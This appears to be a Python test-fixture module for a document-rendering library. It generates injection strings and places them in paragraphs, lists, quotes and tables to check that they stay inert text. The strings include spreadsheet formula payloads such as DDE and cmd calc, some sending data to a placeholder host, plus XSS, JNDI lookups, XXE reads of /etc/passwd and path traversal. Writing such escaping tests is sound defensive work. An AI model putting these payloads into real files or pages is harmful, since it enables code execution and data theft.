"""Texts that would be run, followed, fetched or broken out of, if a writer took them for anything but text."""

import random
from collections.abc import Iterator
from itertools import cycle, islice, product

import pytest

from kentpcc.documents.document import Bullets, Document, Pairs, Paragraph, Quote, Section, Table, columns

STARTS = ("=", "+", "-", "@", "\t=", "\r=", "\n=", "'=", " =", "＝", "%0A=", "", "{=", "<", '"', "&", "_x003D_")
PAYLOADS = (
    "1+1",
    "cmd|' /C calc'!A0",
    'HYPERLINK("http://192.0.2.1/?"&A1,"Open")',
    'WEBSERVICE("http://192.0.2.1/")',
    'IMPORTXML(CONCAT("http://192.0.2.1/",A1),"//a")',
    'DDE("soffice";"/etc/passwd";"x")',
    "SUM(A1:A9)*cmd|'/c x'!A",
    "<script>alert(1)</script>",
    "<img src=http://192.0.2.1/x.png>",
    "<w:p><w:r><w:t>x</w:t></w:r></w:p>",
    "</text:p></table:table-cell><table:table-cell table:formula='of:=1+1'>",
    "]]><![CDATA[x]]>",
    "&lt;b&gt; &amp; &#x41;",
    "{{ settings.SECRET_KEY }} {% load x %}",
    "${jndi:ldap://192.0.2.1/a}",
    "http://192.0.2.1/ mailto:a@example.org file:///etc/passwd",
    "<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>&y;",
    "line one\nline two\n\nline four",
    "tab\there  two spaces   three ",
    "\x00\x01\x08\x0b\x1b\x7f controls",
    "\ufffe\uffff and \u202ereversed\u202c",
    "Zoë’s “quoted” – ½ € 漢字 עברית 👩🏽‍🚒",
    "_x0041__x000D_",
    "A" * 300,
    "a'b\"c`d",
    "%s %(x)s {0} {x}",
    "../../../etc/passwd",
    "@SUM(1+1)*cmd|' /C calc'!A0",
)
ADDRESSES = (
    *(f"{scheme}://192.0.2.1/{path}" for scheme in ("http", "https", "ftp") for path in ("a.png", "a.css", "?x=1")),
    *("file:///etc/passwd", "file:///proc/self/environ", "/etc/passwd", "//192.0.2.1/a", "\\\\192.0.2.1\\share"),
    *("data:text/html,<script>alert(1)</script>", "data:image/png;base64,iVBORw0KGgo=", "javascript:alert(1)"),
)
SEED, A_DOCUMENT = 20190918, 500  # texts in one document
MANY = [500, pytest.param(5000, marks=pytest.mark.soak)]
WAYS = ('<img src="{}">', '<link rel="stylesheet" href="{}">', "@import url({});", "url({})", '"><object data="{}">')


def texts(count: int = 5000) -> list[str]:
    """Each once: it ends with its number."""
    kinds = cycle(product(STARTS, PAYLOADS))
    return [f"{start}{payload}#{number}" for number, (start, payload) in enumerate(islice(kinds, count))]


def portions(count: int) -> list[list[str]]:
    """So many of the five thousand, by the seed, as they are spread over documents."""
    drawn = random.Random(SEED).sample(texts(), count)
    return [drawn[first : first + A_DOCUMENT] for first in range(0, count, A_DOCUMENT)]


def addresses() -> Iterator[str]:
    """A hundred, as they would stand in a text."""
    return (way.format(address) for way, address in product(WAYS, ADDRESSES))


def everywhere(given: list[str]) -> Document:
    """One of each place, the rest in turn as a paragraph, an item, a term, what is said of it, a quote and a cell."""
    places = [given[place::6] for place in range(6)]
    pairs = tuple(zip(places[2], places[3], strict=False))
    blocks = (
        *(Paragraph(text) for text in places[0]),
        Bullets(tuple(places[1])),
        Pairs(pairs),
        *(Quote(text, given[0]) for text in places[4]),
        Table(given[1], columns(given[2], "B"), tuple((text, None) for text in places[5]), notes=(given[3],)),
    )
    return Document(given[4], (Section(given[5], blocks),), subtitle=given[6], publisher=given[7], lead=given[8])
